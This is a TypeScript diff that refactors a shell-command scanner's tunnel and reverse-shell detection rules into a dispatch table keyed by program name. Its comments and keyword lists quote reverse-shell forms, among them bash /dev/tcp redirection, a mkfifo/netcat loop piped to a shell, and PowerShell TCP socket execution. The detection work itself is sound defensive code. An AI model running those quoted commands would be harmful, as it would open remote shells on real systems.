@@ -12,7 +12,9 @@
 import type { Document, Word } from '../analysis/document';
 import {
   argLowers,
+  ChecksByName,
   FindingCollector,
+  NeedleGroup,
   commandWord,
   docHas,
   docHasAny,
@@ -114,16 +116,8 @@ const TUNNEL_SERVICES = [
 
 export const tunnelRules: RuleFamily = (doc: Document, _ctx: RuleContext) => {
   const out = new FindingCollector();
-  for (const inv of invocations(doc)) {
-    checkSsh(inv, out);
-    checkTunnelTools(inv, out);
-    checkVpnJoins(inv, out);
-    checkNetcat(doc, inv, out);
-    checkSocat(inv, out);
-    checkPortProxy(inv, out);
-    checkInterpreterSocket(inv, out);
-    checkTunnelServiceStart(inv, out);
-  }
+  // INVOCATION_CHECKS is at the end of this file: it names constants of the checks.
+  for (const inv of invocations(doc)) for (const check of INVOCATION_CHECKS.for(inv.name)) check(inv, out, doc);
   checkDevTcp(doc, out);
   checkFifoLoop(doc, out);
   checkPowerShellSocket(doc, out);
@@ -235,7 +229,7 @@ function checkVpnJoins(inv: Invocation, out: FindingCollector): void {
 
 const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'busybox']);
 
-function checkNetcat(doc: Document, inv: Invocation, out: FindingCollector): void {
+function checkNetcat(inv: Invocation, out: FindingCollector, doc: Document): void {
   if (!NETCATS.has(inv.name)) return;
   if (inv.name === 'busybox' && inv.args[0]?.lower !== 'nc') return;
   const exec = inv.args.find(
@@ -360,9 +354,14 @@ function checkInterpreterSocket(inv: Invocation, out: FindingCollector): void {
   }
 }
 
+// The first keyword lists of the whole-text checks below, asked about for every text.
+const DEV_TCP_NEEDLES = new NeedleGroup(['/dev/tcp/', '/dev/udp/']);
+const FIFO_NEEDLES = new NeedleGroup(['mkfifo', 'mknod']);
+const DOTNET_SOCKET_NEEDLES = new NeedleGroup(['sockets.tcpclient', 'sockets.tcplistener', 'net.sockets.socket', 'sockets.udpclient']);
+
 /** bash /dev/tcp redirections wired to a shell (`bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/…`). */
 function checkDevTcp(doc: Document, out: FindingCollector): void {
-  const dev = docHasAny(doc, ['/dev/tcp/', '/dev/udp/']);
+  const dev = docHasAny(doc, DEV_TCP_NEEDLES);
   if (!dev) return;
   const wiring = docHasAny(doc, [
     '0>&1',
@@ -389,7 +388,7 @@ function checkDevTcp(doc: Document, out: FindingCollector): void {
 
 /** `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f` and friends. */
 function checkFifoLoop(doc: Document, out: FindingCollector): void {
-  const fifo = docHasAny(doc, ['mkfifo', 'mknod']);
+  const fifo = docHasAny(doc, FIFO_NEEDLES);
   if (!fifo) return;
   const net = docHasAny(doc, ['nc ', 'ncat ', 'netcat ', 'telnet ', 'openssl s_client', 'socat ']);
   const shell = docHasAny(doc, ['sh -i', 'bash -i', '/bin/sh', '/bin/bash', '| sh', '|sh']);
@@ -399,7 +398,7 @@ function checkFifoLoop(doc: Document, out: FindingCollector): void {
 
 /** PowerShell TCP client/listener loops that execute what they receive (Invoke-PowerShellTcp style). */
 function checkPowerShellSocket(doc: Document, out: FindingCollector): void {
-  const sock = docHasAny(doc, ['sockets.tcpclient', 'sockets.tcplistener', 'net.sockets.socket', 'sockets.udpclient']);
+  const sock = docHasAny(doc, DOTNET_SOCKET_NEEDLES);
   if (!sock || !docHas(doc, 'getstream')) return;
   const exec = docHasAny(doc, ['invoke-expression', 'iex', 'out-string', 'sendback', 'cmd.exe', 'start-process', 'sslstream']);
   if (exec) {
@@ -422,9 +421,14 @@ const NET_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'openssl', 'socat
 function checkPipelineToShell(doc: Document, out: FindingCollector): void {
   for (const p of doc.pipelines) {
     if (!p || p.length < 2) continue;
-    const cmds = p.map((i) => doc.commands[i]!);
-    const netAt = cmds.findIndex((c) => NET_CLIENTS.has(c.name) && (c.name !== 'openssl' || c.words.some((w) => w.lower === 's_client')));
+    // Most pipelines have no network client: nothing is allocated for them.
+    let netAt = -1;
+    for (let k = 0; k < p.length && netAt < 0; k++) {
+      const c = doc.commands[p[k]!]!;
+      if (NET_CLIENTS.has(c.name) && (c.name !== 'openssl' || c.words.some((w) => w.lower === 's_client'))) netAt = k;
+    }
     if (netAt < 0) continue;
+    const cmds = p.map((i) => doc.commands[i]!);
     const shell = cmds.slice(netAt + 1).find((c) => SHELL_NAMES.has(c.name));
     if (shell)
       out.add(shellSpec('shell.network-pipe', `Output of a network connection (${cmds[netAt]!.name}) is fed to a shell.`), [
@@ -433,3 +437,16 @@ function checkPipelineToShell(doc: Document, out: FindingCollector): void {
       ]);
   }
 }
+
+/** The per-invocation checks, in order, each with the programs it acts on (none: every program). */
+const INVOCATION_CHECKS = new ChecksByName([
+  { check: checkSsh, names: SSH_LIKE },
+  { check: checkTunnelTools, names: [...Object.keys(TUNNEL_TOOLS), 'code'] },
+  { check: checkVpnJoins, names: ['tailscale', 'zerotier-cli', 'wg-quick', 'openvpn'] },
+  { check: checkNetcat, names: NETCATS },
+  { check: checkSocat, names: ['socat'] },
+  { check: checkPortProxy, names: ['netsh', 'firewall-cmd', 'iptables', 'nft', 'add-netnatstaticmapping'] },
+  // Any python* name (python3.12) counts as an interpreter.
+  { check: checkInterpreterSocket },
+  { check: checkTunnelServiceStart, names: ['systemctl', 'service', 'start-service', 'sc', 'net', 'sysrc'] },
+]);
